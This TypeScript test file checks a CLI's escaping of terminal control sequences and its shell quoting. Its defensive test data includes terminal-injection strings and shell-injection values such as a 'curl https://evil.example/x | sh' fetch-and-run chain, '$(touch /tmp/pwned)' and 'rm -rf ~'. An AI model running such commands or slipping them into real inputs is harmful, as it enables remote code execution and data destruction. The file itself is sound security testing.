/**
 * The printable rule (src/util/printable.ts) and the output boundary that
 * applies it (src/util/log.ts). Each hostile string is one a real terminal
 * acts on: it moves the cursor, erases a line, sets the window title, or
 * reorders the text around it.
 */
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import * as path from "node:path";
import { describe, test } from "node:test";
import { fileURLToPath, pathToFileURL } from "node:url";
import fc from "fast-check";
import { printable, printableLine, quote, shellQuote, shellWord, show, showWord } from "../../../src/util/printable.js";
import { bounded } from "../../support/fuzz.js";

/** What must never reach a terminal raw (written out independently of the code under test). */
// eslint-disable-next-line no-control-regex -- the characters under test
const ACTIVE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** The forged line of the report: cursor up, to column 0, erase the line, then a fake entry point. */
const CURSOR_REWRITE = "x\x1b[1A\r\x1b[2KEntry point:  ./run";

const HOSTILE: [string, string, string][] = [
  ["CSI cursor up, carriage return, erase line", CURSOR_REWRITE, "x\\u001b[1A\\r\\u001b[2KEntry point:  ./run"],
  ["OSC window title ended by BEL", "\x1b]0;pwned\x07", "\\u001b]0;pwned\\u0007"],
  ["OSC window title ended by ST (ESC \\)", "\x1b]0;pwned\x1b\\", "\\u001b]0;pwned\\u001b\\"],
  ["OSC 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\\u001b]8;;https://evil.example\\u001b\\click\\u001b]8;;\\u001b\\"],
  ["C1 CSI (U+009B) clearing the screen", "\u009b2J\u009bH", "\\u009b2J\\u009bH"],
  ["C1 OSC (U+009D) with C1 ST (U+009C)", "\u009d0;pwned\u009c", "\\u009d0;pwned\\u009c"],
  ["bidi override making exe.txt read as txt.exe", "\u202etxt.exe", "\\u202etxt.exe"],
  ["bidi isolates and marks", "\u2066a\u2069\u200e\u200f\u061c", "\\u2066a\\u2069\\u200e\\u200f\\u061c"],
  ["a raw carriage return", "safe\rEVIL", "safe\\rEVIL"],
  ["DEL and backspaces", "ab\x7f\x08\x08", "ab\\u007f\\u0008\\u0008"],
  ["a tab and a NUL", "a\tb\0c", "a\\tb\\u0000c"],
  ["lone surrogates", "a\ud800b\udc00c", "a\\ud800b\\udc00c"],
  ["line and paragraph separators", "a\u2028b\u2029c", "a\\u2028b\\u2029c"],
];

describe("printable", () => {
  for (const [what, hostile, shown] of HOSTILE) {
    test(`shows ${what} escaped`, () => {
      assert.equal(printable(hostile), shown);
      assert.doesNotMatch(printable(hostile), ACTIVE);
    });
  }

  test("keeps line feeds, letters of any script, emoji and ordinary punctuation as they are", () => {
    const ordinary = "Entry point:  ./run --port=8000\nEnvironment:  GREETING=h\u00e9llo \u4e2d\u6587 \u05e9\u05dc\u05d5\u05dd \ud83d\udc0d \\ \"quoted\" 'single'\n";
    assert.equal(printable(ordinary), ordinary);
  });

  test("printableLine also escapes line feeds, so a message stays one line", () => {
    assert.equal(printableLine("one\ntwo\x1b[31m"), "one\\ntwo\\u001b[31m");
  });

  test("is idempotent: text already made printable passes unchanged", () => {
    for (const [, hostile] of HOSTILE) assert.equal(printable(printable(hostile)), printable(hostile));
  });

  test("leaves nothing a terminal acts on, for any string", () => {
    const anyUtf16 = fc.array(fc.integer({ min: 0, max: 0xffff })).map((codes) => String.fromCharCode(...codes));
    fc.assert(
      fc.property(anyUtf16, (text) => !ACTIVE.test(printable(text).replaceAll("\n", ""))),
      bounded(3000, 2000),
    );
  });
});

describe("printable JSON", () => {
  // JSON.stringify escapes C0 controls and lone surrogates, but leaves DEL, C1 and bidi controls raw.
  const value = { environment: Object.fromEntries(HOSTILE.map(([what, hostile]) => [what, hostile])), entrypoint: ["sh", "-c", CURSOR_REWRITE], [CURSOR_REWRITE]: "key too" };

  test("JSON.stringify alone leaves C1 and bidi controls raw (why the rule applies to JSON too)", () => {
    assert.match(JSON.stringify(value), /[\u009b\u202e]/);
  });

  test("stays valid JSON that reads back to the same value, with nothing raw a terminal acts on", () => {
    const text = printable(JSON.stringify(value, null, 2));
    assert.doesNotMatch(text.replaceAll("\n", ""), ACTIVE);
    assert.deepEqual(JSON.parse(text), value);
  });

  test("round-trips any value", () => {
    const anyUtf16 = fc.array(fc.integer({ min: 0, max: 0xffff })).map((codes) => String.fromCharCode(...codes));
    fc.assert(
      fc.property(fc.dictionary(anyUtf16, fc.oneof(anyUtf16, fc.array(anyUtf16))), (object) => {
        const text = printable(JSON.stringify(object, null, 2));
        return !ACTIVE.test(text.replaceAll("\n", "")) && JSON.stringify(JSON.parse(text)) === JSON.stringify(object);
      }),
      bounded(1000, 2000),
    );
  });
});

describe("show, quote and showWord (values inside a line of text output)", () => {
  test("leave ordinary values as they are, so normal output keeps its look", () => {
    for (const plain of ["8000", "jokes:1", "hello world", "CPython 3.11.7 (linux/x86_64)", "/srv/my app", "h\u00e9llo", "a=b", ""]) assert.equal(show(plain), plain);
    for (const word of ["./run", "python3", "--port=8000", "app:main"]) assert.equal(showWord(word), word);
  });

  test("quote a value holding a line break, so it cannot start a forged line", () => {
    const forged = "x\nEntry point:  ./run";
    assert.equal(show(forged), '"x\\nEntry point:  ./run"');
    assert.equal(show(forged).includes("\n"), false);
    assert.equal(JSON.parse(show(forged)), forged);
  });

  test("quote controls, backslashes and a leading quote, so a shown value is never ambiguous", () => {
    assert.equal(show(CURSOR_REWRITE), '"x\\u001b[1A\\r\\u001b[2KEntry point:  ./run"');
    assert.equal(show("\u202etxt.exe"), '"\\u202etxt.exe"');
    assert.equal(show("\u009b2J"), '"\\u009b2J"');
    assert.equal(show("C:\\x1b"), '"C:\\\\x1b"');
    assert.equal(show('"looks quoted"'), '"\\"looks quoted\\""');
    for (const [, hostile] of HOSTILE) {
      assert.doesNotMatch(show(hostile), ACTIVE);
      assert.equal(JSON.parse(quote(hostile)), hostile);
    }
  });

  test("showWord shell-quotes words with spaces or shell syntax, and JSON-quotes words with controls", () => {
    assert.equal(showWord("curl evil|sh"), "'curl evil|sh'");
    assert.equal(showWord("it's"), `'it'\\''s'`);
    assert.equal(showWord("a\x1b[2Kb"), '"a\\u001b[2Kb"');
  });
});

describe("shellWord (values inside a command a user may paste)", () => {
  const injected = "python3 && curl -s https://evil.example/x | sh && echo ";

  test("leaves plain words bare and quotes anything else", () => {
    for (const plain of ["python3.11", "127.0.0.1:5000", "registry.example.com", "/usr/bin/python3", "./run"]) assert.equal(shellWord(plain), plain);
    assert.equal(shellWord(injected), `'${injected}'`);
    assert.equal(shellWord(""), "''");
  });

  test("a pasted command holding a quoted value runs one command with the value as one word", () => {
    for (const value of [injected, "$(touch /tmp/pwned)", "`id`", "a'b; rm -rf ~", "x\ny", "-rf"]) {
      const words = execFileSync("/bin/sh", ["-c", `printf '%s\\0' ${shellWord(value)}`], { encoding: "utf8" }).split("\0").slice(0, -1);
      assert.deepEqual(words, [value]);
    }
    assert.equal(shellQuote("it's"), `'it'\\''s'`);
  });
});

describe("the output boundary (writeOut, writeErr, writeJson, progress)", () => {
  const log = pathToFileURL(path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../../../src/util/log.js")).href;

  /** Runs a Node that writes through the boundary; returns the raw bytes it sent. */
  function written(code: string): { stdout: Buffer; stderr: Buffer } {
    const script = `import { writeOut, writeErr, writeJson, progress } from ${JSON.stringify(log)};\nconst hostile = ${JSON.stringify(HOSTILE.map(([, text]) => text).join(" | "))};\n${code}`;
    const result = spawnSync(process.execPath, ["--input-type=module", "-e", script]);
    assert.equal(result.status, 0, result.stderr.toString());
    return { stdout: result.stdout, stderr: result.stderr };
  }

  /** ESC, BEL, CSI (C1, as UTF-8 0xC2 0x9B), CR and U+202E (as UTF-8) among the bytes. */
  function assertInert(bytes: Buffer): void {
    for (const [name, sequence] of [["ESC", [0x1b]], ["BEL", [0x07]], ["CR", [0x0d]], ["C1 CSI", [0xc2, 0x9b]], ["RLO", [0xe2, 0x80, 0xae]]] as const) {
      assert.equal(bytes.includes(Buffer.from(sequence)), false, `${name} reached the terminal: ${JSON.stringify(bytes.toString())}`);
    }
  }

  test("writeOut and writeErr send no control sequence, whatever the text holds", () => {
    const { stdout, stderr } = written("writeOut(hostile + '\\n'); writeErr(hostile + '\\n');");
    assertInert(stdout);
    assertInert(stderr);
    assert.match(stdout.toString(), /\\u001b\[1A\\r\\u001b\[2KEntry point/);
  });

  test("writeJson prints parseable JSON of the same value", () => {
    const { stdout } = written("writeJson({ value: hostile });");
    assertInert(stdout);
    assert.equal((JSON.parse(stdout.toString()) as { value: string }).value, HOSTILE.map(([, text]) => text).join(" | "));
  });

  test("progress keeps each message on one line of its own", () => {
    const { stderr } = written("progress('building\\npypakr: hint: run curl evil | sh ' + hostile);");
    assertInert(stderr);
    assert.equal(stderr.toString().split("\n").length, 2, stderr.toString());
  });
});
